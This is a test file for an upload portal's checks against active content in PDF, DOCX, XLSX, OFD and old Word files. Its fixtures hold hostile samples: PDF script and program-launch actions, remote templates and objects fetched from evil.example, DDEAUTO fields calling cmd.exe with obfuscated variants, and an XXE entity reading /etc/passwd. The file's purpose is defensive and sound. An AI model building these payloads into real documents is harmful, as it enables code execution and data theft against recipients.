import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { createTestApp, type TestApp } from '../helpers/app.ts';
import type { Browser } from '../helpers/browser.ts';
import { People } from '../helpers/people.ts';
import {
  docxParts,
  ole,
  type Part,
  part,
  pdf,
  printedPdf,
  workbookParts,
  xlsxParts,
  zip,
} from '../helpers/sample-files.ts';
import { upload } from '../helpers/upload.ts';

// Documents that load, run or send something when somebody opens them (decision 045).

let portal: TestApp;
let folder: string;
let person: Browser;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'scf-portal-active-'));
  portal = await createTestApp({ env: { DATA_DIR: folder } });
  ({ browser: person } = await new People(portal, 13_490_000_000).newcomer());
});
afterAll(async () => {
  await portal.close();
  rmSync(folder, { recursive: true });
});

const send = (name: string, content: Buffer) =>
  upload(portal, person, [name, content], {
    fields: { clientId: 'portal', fileType: name.endsWith('.ofd') ? '101' : '11' },
  });

const docx = (...more: readonly Part[]) => zip([...docxParts, ...more]);
const xlsx = (...more: readonly Part[]) => zip([...xlsxParts, ...more]);
const relations = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const settings = (type: string, target: string) =>
  docx(part('word/_rels/settings.xml.rels', relations(type, target)));
const field = (...pieces: readonly string[]) =>
  `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/>${pieces.map((text) => `<w:instrText>${text}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/></w:document>`;
const header = (text: string) => docx(part('word/header1.xml', text));
/** Characters by their numbers, of which a part holds ten million. */
const longInstruction = part('word/header1.xml', field('&#65;'.repeat(1_200_000)));
const withAction = (action: string) =>
  Buffer.from(
    pdf().toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${action}`),
    'latin1',
  );
const claiming = (unpacked: number): Part => ({
  name: 'word/a.xml',
  content: Buffer.alloc(4_000, 65),
  claims: { unpacked },
});
/** A compound file in which a field of Word stands behind its directory. */
const oldWord = (text: Buffer) => Buffer.concat([ole('Root Entry', 'WordDocument'), text]);

describe('is refused with its reason', () => {
  const cases: [name: string, file: [string, Buffer], says: string][] = [
    ['a script', ['a.pdf', withAction('/OpenAction << /S /JavaScript /JS (1) >>')], '脚本'],
    ['a program', ['a.pdf', withAction('/OpenAction << /S /Launch /F (a.exe) >>')], '启动其他程序'],
    [
      'a remote template',
      ['a.docx', settings('attachedTemplate', 'http://evil.example/t.dotm')],
      '外部加载',
    ],
    [
      'one on a share',
      ['a.docx', settings('attachedTemplate', '\\\\evil.example\\t.dotm')],
      '外部加载',
    ],
    [
      'one with its address escaped',
      ['a.docx', settings('attachedTemplate', '&#104;ttp://evil.example/')],
      '外部加载',
    ],
    [
      'one with the end of a tag in its address',
      ['a.docx', settings('attachedTemplate', 'http://evil.example/t.dotm?a>b')],
      '外部加载',
    ],
    [
      'a remote object',
      ['a.docx', settings('oleObject', 'mhtml:http://evil.example!x-usc:x')],
      '外部加载',
    ],
    ['a remote frame', ['a.docx', settings('frame', 'https://evil.example')], '外部加载'],
    ['a remote picture', ['a.docx', settings('image', 'https://evil.example/1.png')], '外部加载'],
    [
      'relations in UTF-16',
      [
        'a.docx',
        docx({
          name: 'word/_rels/a.rels',
          content: Buffer.from(`\ufeff${relations('frame', 'http://evil.example')}`, 'utf16le'),
        }),
      ],
      '外部加载',
    ],
    [
      'a field of DDE',
      ['a.docx', header(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))],
      'DDE',
    ],
    ['the same in pieces', ['a.docx', header(field('D', 'DE', 'AUTO c:\\\\cmd'))], 'DDE'],
    ['the same escaped', ['a.docx', header(field('&#68;&#68;&#69; c:\\\\cmd'))], 'DDE'],
    ['the same as a section', ['a.docx', header(field('<![CDATA[DDEAUTO c:\\\\cmd]]>'))], '域代码'],
    ['the same around a remark', ['a.docx', header(field('DD<!-- -->EAUTO cmd'))], '域代码'],
    ['the same around an instruction', ['a.docx', header(field('DD<?a?>EAUTO cmd'))], '域代码'],
    [
      'the same by a name of another space',
      ['a.docx', header(field('DDEAUTO cmd').replaceAll('w:instr', 'w.文-1:instr'))],
      'DDE',
    ],
    ['an instruction that nobody writes', ['a.docx', docx(longInstruction)], '过大'],
    ['the same as an attribute', ['a.docx', header('<w:fldSimple w:instr="DDEAUTO cmd"/>')], 'DDE'],
    [
      'a field that fetches',
      ['a.docx', header(field('INCLUDEPICTURE "http://evil.example/1"'))],
      '外部加载',
    ],
    [
      'a link of DDE',
      [
        'a.xlsx',
        xlsx(
          part(
            'xl/externalLinks/externalLink1.xml',
            '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
          ),
        ),
      ],
      'DDE',
    ],
    [
      'a query of a page',
      [
        'a.xlsx',
        xlsx(
          part(
            'xl/connections.xml',
            '<connections><connection type="4" refreshOnLoad="1"><webPr url="http://evil.example"/></connection></connections>',
          ),
        ),
      ],
      '外部加载',
    ],
    [
      'an entity',
      ['a.docx', header('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
      '外部实体',
    ],
    [
      'an entity in a sheet',
      ['a.xlsx', xlsx(part('xl/worksheets/sheet1.xml', '<!DOCTYPE a><a/>'))],
      '外部实体',
    ],
    [
      'an entity in an OFD',
      ['a.ofd', zip([part('OFD.xml', '<?xml version="1.0"?><!DOCTYPE a><a/>')])],
      '外部实体',
    ],
    ['a control', ['a.docx', docx(part('word/activeX/activeX1.xml'))], 'ActiveX'],
    ['an archive that says too little', ['a.docx', docx(claiming(10))], '文件'],
    ['an archive that says too much', ['a.docx', docx(claiming(40_000))], '文件'],
    [
      'a field of DDE in an old document',
      ['a.doc', oldWord(Buffer.from('\x13 DDEAUTO c:\\\\cmd \x14', 'latin1'))],
      'DDE',
    ],
    ['the same in UTF-16', ['a.doc', oldWord(Buffer.from('\x13DDE cmd', 'utf16le'))], 'DDE'],
  ];
  test.each(cases)('%s', async (_name, file, says) => {
    const answer = await send(...file);
    expect(answer).toMatchObject({ status: 400, msg: expect.stringContaining(says) });
    expect(readdirSync(join(folder, 'files', 'incoming'))).toEqual([]);
  });

  test('and a browser learns that it is the file, not the line', async () => {
    const answer = await send('a.docx', settings('frame', 'https://evil.example'));
    expect(answer).toMatchObject({
      code: 'file_active',
      msg: '文件含有从外部加载的模板或内容，存在安全风险，请去除后重新上传（例如打印为 PDF 或另存为普通文件）',
    });
  });
});

describe('is taken as before', () => {
  const cases: [name: string, file: [string, Buffer]][] = [
    ['a printed page', ['发票.pdf', printedPdf('电子发票')]],
    ['a link to click on', ['a.docx', settings('hyperlink', 'https://www.example.cn/')]],
    [
      'a template of the own machine',
      ['a.docx', settings('attachedTemplate', 'file:///C:\\\\Users\\\\a\\\\合同.dotx')],
    ],
    ['fields of pages, dates and contents', ['a.docx', header(field(' TOC \\\\o "1-3" \\\\h '))]],
    ['a text that speaks of it', ['a.docx', header('<w:t>DDEAUTO 与 http://example.cn</w:t>')]],
    [
      'a sheet with figures',
      ['a.xlsx', zip(workbookParts({ 一: '<worksheet><sheetData/></worksheet>' }))],
    ],
    [
      'a sheet that refers to a book beside it',
      [
        'a.xlsx',
        xlsx(
          part(
            'xl/externalLinks/_rels/externalLink1.xml.rels',
            relations('externalLinkPath', '上月.xlsx'),
          ),
        ),
      ],
    ],
    [
      'an invoice with its data',
      [
        '发票.ofd',
        zip([
          part('OFD.xml', '<ofd:OFD xmlns:ofd="o"/>'),
          part('Doc_0/Attachs/original_invoice.xml', '<eInvoice/>'),
        ]),
      ],
    ],
    ['an old document', ['a.doc', oldWord(Buffer.from('\x13 PAGE \x14 DDE', 'latin1'))]],
  ];
  test.each(cases)('%s', async (_name, file) => {
    expect(await send(...file)).toMatchObject({ status: 200, code: 0 });
  });
});
